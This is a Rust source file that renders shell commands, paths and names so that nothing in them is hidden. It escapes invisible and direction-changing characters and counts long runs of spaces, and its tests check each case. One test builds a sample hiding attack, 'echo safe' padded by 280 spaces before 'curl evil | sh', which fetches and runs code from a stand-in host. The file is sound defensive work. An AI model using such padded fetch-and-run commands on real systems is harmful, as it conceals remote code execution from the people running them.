//! Texts in a form that can be read in one way only: nothing in them is invisible, and nothing
//! pushes the rest out of sight.

use std::fmt::Write;

use crate::fields::shell_word;

/// The number of spaces in a row that are counted instead of shown.
const MANY: usize = 3;

/// Stands for a space that is counted.
const SPACE: char = '␠';

/// Writes a command as a shell would read it. A run of spaces appears as `[␠×280]`.
pub fn command_line(words: &[String]) -> String {
    words.iter().map(|each| word(each)).collect::<Vec<_>>().join(" ")
}

/// Writes one word of a command as [`shell_word`] does, or with escapes if something in it would not
/// be seen.
pub fn word(text: &str) -> String {
    match text.chars().any(is_hidden) || has_run(text) {
        true => escaped(text),
        false => shell_word(text),
    }
}

/// Writes an address, a path or a name: bare if all of it can be seen.
pub fn plain(text: &str) -> String {
    let seen = |c: char| c.is_alphanumeric() || (c.is_ascii_graphic() && !"'\"\\`".contains(c));
    match !text.is_empty() && text.chars().all(seen) {
        true => text.to_owned(),
        false => word(text),
    }
}

fn has_run(text: &str) -> bool {
    text.split(|c| c != ' ').any(|run| run.len() >= MANY)
}

/// As in a shell's `$'…'`, with runs of spaces counted.
fn escaped(text: &str) -> String {
    let mut written = String::from("$'");
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        let mut spaces = usize::from(c == ' ');
        while c == ' ' && rest.next_if_eq(&' ').is_some() {
            spaces += 1;
        }
        // Writing to a text cannot fail.
        let _ = match c {
            ' ' if spaces >= MANY => write!(written, "[{SPACE}×{spaces}]"),
            ' ' => write!(written, "{}", " ".repeat(spaces)),
            '\n' => write!(written, "\\n"),
            '\t' => write!(written, "\\t"),
            '\r' => write!(written, "\\r"),
            '\'' | '\\' => write!(written, "\\{c}"),
            c if is_hidden(c) && c.is_ascii() => write!(written, "\\x{:02x}", u32::from(c)),
            c if is_hidden(c) && u32::from(c) > 0xffff => {
                write!(written, "\\U{:08x}", u32::from(c))
            }
            c if is_hidden(c) => write!(written, "\\u{:04x}", u32::from(c)),
            c => write!(written, "{c}"),
        };
    }
    written.push('\'');
    written
}

/// True for characters that are not seen, that move what is seen, or that stand for them here.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || c == SPACE
        || (c.is_whitespace() && c != ' ')
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn b_20_a_command_reads_in_one_way_only() {
        let line = |words: &[&str]| {
            command_line(&words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>())
        };
        assert_eq!(line(&["sh", "-c", "echo hi; rm x"]), "sh -c 'echo hi; rm x'");
        assert_ne!(line(&["a", "b c"]), line(&["a", "b", "c"]));
        assert_eq!(line(&["say", "it's", ""]), r"say 'it'\''s' ''");
        let pushed = format!("echo safe{}; curl evil | sh", " ".repeat(280));
        assert_eq!(line(&[&pushed]), "$'echo safe[␠×280]; curl evil | sh'");
        // What is counted cannot be pretended.
        assert_eq!(line(&["a[␠×2]b"]), r"$'a[\u2420×2]b'");
        assert_eq!(
            line(&["a\u{202e}b\u{200b}c\x1b[2K\n\td\u{a0}\u{e0041}"]),
            r"$'a\u202eb\u200bc\x1b[2K\n\td\u00a0\U000e0041'"
        );
        assert_eq!(plain("https://a.example/x?y=1&z=2#t"), "https://a.example/x?y=1&z=2#t");
        assert_eq!(plain("über/weg"), "über/weg");
        assert_eq!(plain("a b"), "'a b'");
    }
}
